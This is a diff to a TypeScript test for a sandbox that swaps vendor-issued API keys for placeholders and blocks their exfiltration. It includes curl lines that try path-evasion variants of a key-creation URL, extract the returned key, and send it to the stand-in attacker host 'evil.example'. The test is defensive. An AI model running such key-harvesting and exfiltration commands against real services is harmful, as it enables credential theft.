@@ -12,7 +12,9 @@ import { createFakeTokenEndpoint, type FakeTokenEndpoint } from '../../src/testi
 import { createRig, type Rig } from '../e2e/rig.ts';
 
 const { mode } = await doctor();
-const hosts = ['auth.openai.com', 'chatgpt.com', 'api.openai.com', 'evil.example'];
+const hosts = ['auth.openai.com', 'chatgpt.com', 'api.openai.com', 'api.anthropic.com', 'evil.example'];
+/** What the vendor hands out for a login, and what it is called there. */
+const madeKey = 'sk-ant-api03-REAL-key-of-a-login';
 
 let rig: Rig;
 let server: https.Server;
@@ -31,8 +33,10 @@ beforeAll(async () => {
     request.on('end', () => {
       const { host = '' } = request.headers;
       arrived.push({ host, all: [request.method, request.url, ...request.rawHeaders, body].join('\n') });
+      if (host === 'api.anthropic.com' && /create(_|%5f)api(_|%5f)key/i.test(request.url ?? ''))
+        return response.end(JSON.stringify({ raw_key: madeKey, note: madeKey }));
       const answer = host === 'auth.openai.com' && request.url === '/oauth/token' ? endpoint.answer(body) : undefined;
-      response.writeHead(answer?.status ?? 200, answer?.headers).end(answer?.body ?? 'REACHED');
+      return response.writeHead(answer?.status ?? 200, answer?.headers).end(answer?.body ?? 'REACHED');
     });
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
@@ -163,5 +167,29 @@ describe.skipIf(mode === 'none')('a program that is after the login', () => {
     expect(reached).toBe('REACHED');
     expect(JSON.parse(renewed)).toMatchObject({ access_token: expect.stringMatching(/^oat-/) as string });
     expect(fs.readFileSync(loginFile(), 'utf8')).toBe(before);
+  });
+
+  it('gets no key that a vendor hands out for a login, however it asks: a placeholder comes in, good at that vendor alone', async () => {
+    arrived = [];
+    const at = 'https://api.anthropic.com/api/oauth/claude_cli';
+    const ways = [
+      'create_api_key',
+      '/create_api_key',
+      'x/../create_api_key',
+      'create%5Fapi_key',
+      'CREATE_API_KEY/',
+      'create_api_key;x=1?y=2',
+    ];
+    const { stdout } = await inside([
+      ...ways.map((way) => `curl -sS -m 20 --path-as-is -X POST '${at}/${way}'; echo`),
+      `k=$(curl -sS -m 20 -X POST ${at}/create_api_key | sed 's/.*"raw_key":"//; s/".*//')`,
+      'curl -sS -m 20 -H "x-api-key: $k" https://api.anthropic.com/v1/files; echo',
+      'curl -sS -m 20 -H "x-api-key: $k" https://evil.example/; echo',
+    ]);
+    const lines = stdout.split('\n');
+    for (const line of lines.slice(0, ways.length)) expect(line).toMatch(/^\{"raw_key":"sk-ant-api03-zNtr4m[A-Za-z0-9]{40,}"\}$/);
+    expect(lines[ways.length]).toBe('REACHED');
+    expect(lines[ways.length + 1]).toMatch(/^Intramur refused: /);
+    expect(arrived.filter(({ all }) => all.includes(madeKey)).map(({ host }) => host)).toEqual(['api.anthropic.com']);
   });
 });
